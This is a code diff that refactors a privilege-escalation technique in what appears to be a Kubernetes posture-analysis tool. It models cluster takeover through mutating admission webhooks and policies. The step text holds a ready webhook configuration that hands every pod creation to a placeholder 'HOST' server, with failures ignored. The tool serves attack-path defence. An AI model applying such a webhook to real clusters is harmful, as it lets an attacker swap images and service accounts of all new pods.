@@ -7,9 +7,9 @@ namespace nsposture::escalation {
 
 namespace {
 
-constexpr Making kWebhooks{kCreateWebhook};
-constexpr Making kPolicies{kCreateMutatingPolicy};
-constexpr Making kPolicyBindings{kCreateMutatingBinding};
+constexpr CreatePermissions kWebhooks{kCreateWebhook};
+constexpr CreatePermissions kPolicies{kCreateMutatingPolicy};
+constexpr CreatePermissions kPolicyBindings{kCreateMutatingBinding};
 
 bool may_mutate(const Evaluation& at, Proof& proof, std::string& name) {
   if (at.rights.make_some(proof, kWebhooks, kCluster, name)) return true;
@@ -28,11 +28,11 @@ bool may_mutate(const Evaluation& at, Proof& proof, std::string& name) {
 
 // Pods are made all the time, in every namespace; a mutation changes their image and account.
 // Validating webhooks only look on.
-void apply(const Evaluation& at) {
+void edges(const Evaluation& at) {
   Proof proof;
   std::string name;
   if (!may_mutate(at, proof, name)) return;
-  at.sink.emit({NodeType::Accounts, kAllNamespaces, 0}, proof, name);
+  at.sink.emit({NodeType::Accounts, kAllNamespaces, 0}, proof, NamedObject{name});
 }
 
 constexpr std::string_view kPolicySpec =
@@ -41,7 +41,7 @@ constexpr std::string_view kPolicySpec =
 StepText text(const StepView& view) {
   const bool webhook = !uses(view.edge, kCreateMutatingPolicy);
   if (!webhook) {
-    const auto name = fresh_name(view, view.edge.note);
+    const auto name = fresh_name(view, object_name(view.edge));
     const auto json = object_json("admissionregistration.k8s.io/v1alpha1",
                                   "MutatingAdmissionPolicy", {}, name, kPolicySpec);
     const auto binding =
@@ -52,7 +52,7 @@ StepText text(const StepView& view) {
             send_object(view, kCreateMutatingBinding, binding),
         "a mutating policy changes the image and the account of the next pod that anybody makes"};
   }
-  const auto name = fresh_name(view, view.edge.note);
+  const auto name = fresh_name(view, object_name(view.edge));
   const auto json = object_json(
       "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
       R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
@@ -66,13 +66,16 @@ StepText text(const StepView& view) {
 }  // namespace
 
 Technique mutate_admission() {
-  return {{"mutate-admission", "Change pods at admission", "T1556", "5.1.12"},
-          Takes::Administration,
-          22,
-          kAtCluster,
-          {kCreateWebhook, kUpdateWebhook, kPatchWebhook, kCreateMutatingPolicy},
-          apply,
-          text};
+  return {.id = TechniqueId::MutateAdmission,
+          .title = "Change pods at admission",
+          .attack = "T1556",
+          .cis = "5.1.12",
+          .takes = Takes::Administration,
+          .cost = 22,
+          .where = kAtCluster,
+          .any_of = {kCreateWebhook, kUpdateWebhook, kPatchWebhook, kCreateMutatingPolicy},
+          .edges = edges,
+          .text = text};
 }
 
 }  // namespace nsposture::escalation
